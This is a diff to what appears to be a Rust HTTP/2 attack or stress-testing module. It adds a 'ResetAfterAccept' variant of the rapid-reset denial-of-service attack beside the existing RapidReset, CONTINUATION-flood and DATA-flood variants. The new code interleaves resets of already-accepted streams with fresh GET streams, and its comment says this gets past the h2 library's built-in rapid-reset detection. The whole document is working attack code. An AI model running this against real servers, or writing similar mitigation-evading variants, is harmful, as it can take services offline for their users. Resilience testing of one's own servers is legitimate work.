@@ -199,6 +199,10 @@ struct Seen {
 pub enum H2Attack {
     /// HEADERS (GET, END_STREAM) immediately followed by RST_STREAM, on ever new stream ids.
     RapidReset,
+    /// Rapid reset that lets the server start each request first: every batch resets the
+    /// streams the previous batch opened (`pause` earlier), then opens as many new ones. h2's
+    /// own check (streams reset before they were accepted) never sees these.
+    ResetAfterAccept,
     /// One HEADERS without END_HEADERS, then CONTINUATION frames of junk header bytes, forever.
     ContinuationFlood,
     /// One POST stream left open, then empty DATA frames (no END_STREAM), forever.
@@ -285,6 +289,8 @@ pub async fn h2_attack(
     first.extend(settings(&[(0x4, 65_535)]));
     first.extend(frame(kind::SETTINGS, END_STREAM, 0, &[])); // ACK of the server's SETTINGS
     let mut next_stream = 1u32;
+    // ResetAfterAccept: the streams opened by the previous batch.
+    let mut open_streams: Vec<u32> = Vec::new();
     match attack {
         H2Attack::ContinuationFlood => {
             let block = header_block("GET", host, path, extra);
@@ -315,6 +321,7 @@ pub async fn h2_attack(
             && !seen.ended.load(Ordering::Relaxed)
         {
             let mut bytes = Vec::with_capacity(batch * 64);
+            let mut opened = Vec::new();
             for _ in 0..batch {
                 match attack {
                     H2Attack::RapidReset => {
@@ -324,6 +331,22 @@ pub async fn h2_attack(
                         out.frames_sent += 2;
                         next_stream = next_stream.wrapping_add(2);
                         if next_stream >= 0x7fff_0000 {
+                            break;
+                        }
+                    }
+                    H2Attack::ResetAfterAccept => {
+                        // Half a batch of resets (of the previous batch's streams), then half
+                        // a batch of new streams.
+                        if let Some(id) = open_streams.pop() {
+                            bytes.extend(rst_stream(id));
+                        } else {
+                            let block = header_block("GET", host, path, extra);
+                            bytes.extend(frame(kind::HEADERS, END_STREAM | END_HEADERS, next_stream, &block));
+                            opened.push(next_stream);
+                            next_stream = next_stream.wrapping_add(2);
+                        }
+                        out.frames_sent += 1;
+                        if opened.len() * 2 >= batch || next_stream >= 0x7fff_0000 {
                             break;
                         }
                     }
@@ -341,6 +364,7 @@ pub async fn h2_attack(
                     }
                 }
             }
+            open_streams = opened;
             out.bytes_sent += bytes.len() as u64;
             if !pause.is_zero() {
                 tokio::time::sleep(pause).await;
